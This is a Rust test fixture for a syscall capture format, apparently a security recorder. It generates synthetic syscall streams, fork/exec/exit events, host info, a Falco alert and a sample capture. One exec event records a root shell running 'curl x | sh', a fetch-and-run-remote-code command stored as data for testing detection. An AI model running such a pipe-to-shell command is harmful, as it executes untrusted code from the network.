//! Shared test data: deterministic synthetic events and a small complete capture.
#![allow(dead_code, reason = "each test binary uses a different subset")]

use capture_format::*;
use std::collections::BTreeMap;

/// A tiny deterministic PRNG (xorshift), so tests need no RNG crate and are reproducible.
pub struct Rng(pub u64);

impl Rng {
    pub fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

/// A syscall-heavy stream shaped like a busy node: a few hot processes, mostly
/// read/write/futex/epoll with small returns, pointers in user space, some paths.
pub fn syscall_stream(n: usize, seed: u64) -> Vec<Event> {
    let mut rng = Rng(seed | 1);
    let mut ts = 1_000_000_000u64;
    let pids = [1201u32, 1202, 3400, 3401, 5000, 777, 778, 9001];
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        ts += 200 + rng.below(3000);
        let pid = pids[rng.below(pids.len() as u64) as usize];
        let tid = if rng.below(4) == 0 {
            pid + 1 + rng.below(3) as u32
        } else {
            pid
        };
        let nr = [0u32, 1, 202, 232, 7, 3, 257, 4, 9, 0, 1, 0][rng.below(12) as usize];
        let fd = 3 + rng.below(20);
        let buf = 0x7ffd_1234_0000u64 + (rng.below(64) << 12);
        let ret = match nr {
            0 | 1 => rng.below(4096) as i64,
            257 => 3 + rng.below(40) as i64,
            _ => 0,
        };
        let mut params = Vec::new();
        if nr == 257 {
            params.push(Param {
                slot: 1,
                value: ParamValue::Path(format!("/etc/file{}.conf", rng.below(30)).into_bytes()),
            });
        }
        if (nr == 0 || nr == 1) && i % 16 == 0 {
            params.push(Param {
                slot: 1,
                value: ParamValue::Buffer(Buffer {
                    data: b"GET / HTTP/1.1\r\n".to_vec(),
                    original_len: ret as u64,
                    cut: BufferCut::Snaplen,
                }),
            });
        }
        out.push(Event {
            ts,
            cpu: rng.below(4) as u32,
            pid,
            tid,
            body: EventBody::Syscall(SyscallEvent {
                nr,
                abi: Abi::X86_64,
                completion: Completion::Complete,
                args: [fd, buf, 4096, 0, 0, 0],
                ret: Some(ret),
                duration_ns: Some(500 + rng.below(5000)),
                cgroup_id: 4000 + u64::from(pid % 3),
                params,
            }),
        });
    }
    out
}

pub fn lifecycle_events(ts: u64) -> Vec<Event> {
    vec![
        Event {
            ts,
            cpu: 0,
            pid: 100,
            tid: 100,
            body: EventBody::Fork(ForkEvent {
                child_pid: 101,
                child_tid: 101,
                cgroup_id: 9,
            }),
        },
        Event {
            ts: ts + 10,
            cpu: 1,
            pid: 101,
            tid: 101,
            body: EventBody::Exec(ExecEvent {
                filename: b"/bin/sh".to_vec(),
                argv: vec![b"sh".to_vec(), b"-c".to_vec(), b"curl x | sh".to_vec()],
                argv_truncated: false,
                ppid: 100,
                uid: 0,
                gid: 0,
                euid: 0,
                egid: 0,
                cgroup_id: 9,
                exe: Some(b"/usr/bin/dash".to_vec()),
                cwd: None,
            }),
        },
        Event {
            ts: ts + 20,
            cpu: 1,
            pid: 0,
            tid: 0,
            body: EventBody::CgroupMkdir(CgroupEvent {
                cgroup_id: 10,
                path: b"/sys/fs/cgroup/x".to_vec(),
            }),
        },
        Event {
            ts: ts + 30,
            cpu: 1,
            pid: 101,
            tid: 101,
            body: EventBody::Exit(ExitEvent {
                status: 256,
                group_dead: true,
            }),
        },
    ]
}

pub fn host() -> HostInfo {
    let mut settings = BTreeMap::new();
    settings.insert("snaplen".into(), "256".into());
    HostInfo {
        hostname: "node-1".into(),
        kernel_release: "6.8.0".into(),
        kernel_version: "#1 SMP".into(),
        arch: "x86_64".into(),
        cpu_count: 4,
        boot_id: "b00t".into(),
        recorder_version: "0.1.0".into(),
        settings,
    }
}

pub fn alert() -> Alert {
    Alert {
        source: "falco".into(),
        received_boot_ns: 1_500_000_000,
        received_realtime_ns: 1_700_000_000_000_000_000,
        payload_time: Some("2024-01-01T00:00:00Z".into()),
        summary: "Terminal shell in container".into(),
        payload: br#"{"rule":"Terminal shell in container"}"#.to_vec(),
    }
}

pub const FIXED_ID: [u8; 16] = *b"0123456789abcdef";

pub fn small_opts() -> WriterOptions {
    WriterOptions {
        chunk_raw_bytes: 2048,
        zstd_level: 3,
        file_id: Some(FIXED_ID),
    }
}

/// A small complete capture: every metadata kind and several chunks.
pub fn write_sample(events: &[Event], opts: WriterOptions) -> Vec<u8> {
    let mut w = CaptureWriter::new(Vec::new(), opts).expect("header");
    w.write_host(&host()).expect("host");
    w.write_clocks(&[ClockPair {
        boot_ns: 1,
        realtime_ns: 2,
    }])
    .expect("clocks");
    w.write_processes(&ProcessSnapshot {
        ts: 5,
        processes: vec![ProcessInfo {
            pid: 1,
            comm: "init".into(),
            ..Default::default()
        }],
    })
    .expect("processes");
    w.write_containers(&[ContainerInfo {
        id: "abc".into(),
        runtime: "podman".into(),
        cgroup_ids: vec![9],
        ..Default::default()
    }])
    .expect("containers");
    w.write_users(&UsersAndGroups {
        users: vec![UserInfo {
            uid: 0,
            name: "root".into(),
            container_id: String::new(),
        }],
        groups: vec![],
    })
    .expect("users");
    w.write_alert(&alert()).expect("alert");
    for e in events {
        w.push_event(e).expect("event");
    }
    w.write_drops(&DropLedger {
        entries: vec![DropEntry {
            cause: "ring_full".into(),
            cpu: Some(1),
            pid: None,
            from: 1,
            to: 2,
            count: 3,
        }],
    })
    .expect("drops");
    w.finish().expect("finish")
}

pub fn all_events(r: &CaptureReader) -> Vec<Event> {
    r.events()
        .collect::<Result<Vec<_>, _>>()
        .expect("events decode")
}

/// A stream shaped like a real busy node rather than uniform noise: threads that loop over
/// a few syscalls with the same fds and buffers, services doing request/response I/O,
/// timing jitter and occasional outliers. For size measurements.
pub fn realistic_stream(n: usize, seed: u64) -> Vec<Event> {
    let mut rng = Rng(seed | 1);
    // (pid, tid, loop of (nr, args, typical ret))
    struct Thread {
        pid: u32,
        tid: u32,
        cpu: u32,
        pattern: Vec<(u32, [u64; 6], i64)>,
        at: usize,
        cgroup: u64,
    }
    let mut threads = Vec::new();
    for t in 0..24u32 {
        let pid = 2000 + (t / 3) * 37;
        let tid = pid + t % 3;
        let buf = 0x7f3a_2c00_0000u64 + u64::from(t) * 0x10_0000;
        let pattern = match t % 4 {
            // event loop: epoll_wait, read, write
            0 => vec![
                (232, [4, buf, 512, u64::MAX, 0, 0], 1),
                (0, [7, buf + 4096, 16384, 0, 0, 0], 512),
                (1, [7, buf + 8192, 200, 0, 0, 0], 200),
            ],
            // worker: futex wait/wake
            1 => vec![
                (202, [buf + 64, 128, 0, 0, 0, 0], 0),
                (202, [buf + 64, 129, 1, 0, 0, 0], 1),
            ],
            // database: pread64, pwrite64, fdatasync now and then
            2 => vec![
                (17, [12, buf, 8192, 0, 0, 0], 8192),
                (17, [12, buf, 8192, 8192, 0, 0], 8192),
                (18, [13, buf + 8192, 4096, 0, 0, 0], 4096),
            ],
            // timers and clocks
            _ => vec![
                (230, [1, 0, buf + 128, 0, 0, 0], 0),
                (228, [1, buf + 256, 0, 0, 0, 0], 0),
            ],
        };
        threads.push(Thread {
            pid,
            tid,
            cpu: t % 4,
            pattern,
            at: 0,
            cgroup: 7000 + u64::from(t / 6),
        });
    }
    let mut ts = 5_000_000_000u64;
    let mut out = Vec::with_capacity(n);
    let mut current = 0usize;
    for _ in 0..n {
        // A thread runs a few syscalls in a row before another one gets the CPU.
        if rng.below(4) == 0 {
            current = rng.below(threads.len() as u64) as usize;
        }
        let th = &mut threads[current];
        let (nr, mut args, mut ret) = th.pattern[th.at];
        th.at = (th.at + 1) % th.pattern.len();
        match nr {
            0 | 17 | 18 => {
                // Reads return varying sizes; offsets advance.
                if nr == 0 {
                    ret = (rng.below(16) * 64) as i64;
                }
                args[3] = args[3].wrapping_add(rng.below(4) * 8192);
            }
            232 => ret = 1 + rng.below(2) as i64,
            _ => {}
        }
        ts += 300
            + rng.below(1200)
            + if rng.below(50) == 0 {
                rng.below(100_000)
            } else {
                0
            };
        let duration = 400
            + rng.below(800)
            + if nr == 232 || nr == 202 {
                rng.below(20_000)
            } else {
                0
            };
        out.push(Event {
            ts,
            cpu: th.cpu,
            pid: th.pid,
            tid: th.tid,
            body: EventBody::Syscall(SyscallEvent {
                nr,
                abi: Abi::X86_64,
                completion: Completion::Complete,
                args,
                ret: Some(ret),
                duration_ns: Some(duration),
                cgroup_id: th.cgroup,
                params: Vec::new(),
            }),
        });
    }
    out
}
